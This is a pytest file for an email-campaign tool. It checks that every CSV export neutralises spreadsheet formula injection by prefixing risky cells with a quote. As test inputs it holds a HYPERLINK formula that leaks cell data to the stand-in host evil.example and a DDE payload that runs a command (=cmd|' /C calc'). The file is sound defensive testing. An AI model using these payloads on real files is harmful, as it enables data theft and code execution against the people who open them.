"""Every CSV the product writes neutralises cells a spreadsheet would evaluate (issue 17):
a name, attribute, consent source or an open's User-Agent starting `= + - @`, a tab or a
carriage return gets a leading `'`."""

from __future__ import annotations

import csv
import io

from campaigns.audience import consent as ledger
from campaigns.csv_output import safe_cell
from campaigns.store.models import Contact, Event
from campaigns.timespec import utcnow

FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"click")'


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_neutral(text: str) -> None:
    cells = _cells(text)
    assert cells, text
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells


def test_safe_cell_prefixes_text_only() -> None:
    assert [safe_cell(v) for v in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "ok", -5, 2.5, None)] == \
        ["'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", "'\rx", "ok", -5, 2.5, None]


def test_contacts_list_events_and_consent_history_csv_are_neutralised(cli, app, settings, tmp_path) -> None:
    path = tmp_path / "c.csv"
    path.write_text(f'external_id,email,name,city\nC1,ann@example.com,"{FORMULA.replace(chr(34), chr(34) * 2)}",@city\n')
    assert cli("contacts", "import", str(path)).exit_code == 0
    with app.session() as s:
        person = s.query(Contact).one()
        ledger.grant(s, settings, person, "email", "-form", consent_text="@text", user_agent="+UA",
                     double_opt_in=False)
        s.add(Event(contact_id=person.id, type="open", user_agent="=cmd|' /C calc'!A0", dedup_key="x1",
                    occurred_at=utcnow(), url="@url"))
    listed = cli("contacts", "list", "--csv")
    assert listed.exit_code == 0, listed.output
    assert "'=HYPERLINK" in listed.stdout
    _assert_neutral(listed.stdout)
    events = cli("events", "ann@example.com", "--csv")
    assert events.exit_code == 0, events.output
    assert "'=cmd" in events.stdout
    _assert_neutral(events.stdout)
    history = cli("consent", "history", "ann@example.com", "--csv")
    assert history.exit_code == 0, history.output
    assert "'-form" in history.stdout and "'+UA" in history.stdout
    _assert_neutral(history.stdout)


def test_the_rejects_file_is_neutralised(cli, tmp_path) -> None:
    path = tmp_path / "contacts.csv"
    path.write_text("email,name\nok@example.com,Ok\nbad@,=2+5\n")
    r = cli("contacts", "import", str(path), "--skip-invalid")
    assert r.exit_code == 0, r.output
    rejects = (tmp_path / "contacts.rejected.csv").read_text()
    assert "'=2+5" in rejects
    _assert_neutral(rejects)




def test_contacts_export_is_neutralised_and_reads_back_unchanged(cli, tmp_path) -> None:
    """`contacts export` is a CSV a person opens in a spreadsheet too; the import takes the
    `'` back off, so export -> import leaves every contact unchanged."""
    path = tmp_path / "c.csv"
    path.write_text(f'email,name,phone,city\nann@example.com,"{FORMULA.replace(chr(34), chr(34) * 2)}",'
                    "+14155550100,@city\nbob@example.com,-Bob,,=1+1\n")
    assert cli("contacts", "import", str(path)).exit_code == 0
    before = cli("contacts", "list", "--json").stdout
    exported = cli("contacts", "export", "-")
    assert exported.exit_code == 0, exported.output
    assert "'=HYPERLINK" in exported.stdout and "'+14155550100" in exported.stdout and "'-Bob" in exported.stdout
    _assert_neutral(exported.stdout)
    (tmp_path / "out.csv").write_text(exported.stdout)
    back = cli("contacts", "import", str(tmp_path / "out.csv"))
    assert back.exit_code == 0 and "2 unchanged" in back.stdout, back.output
    assert cli("contacts", "list", "--json").stdout == before
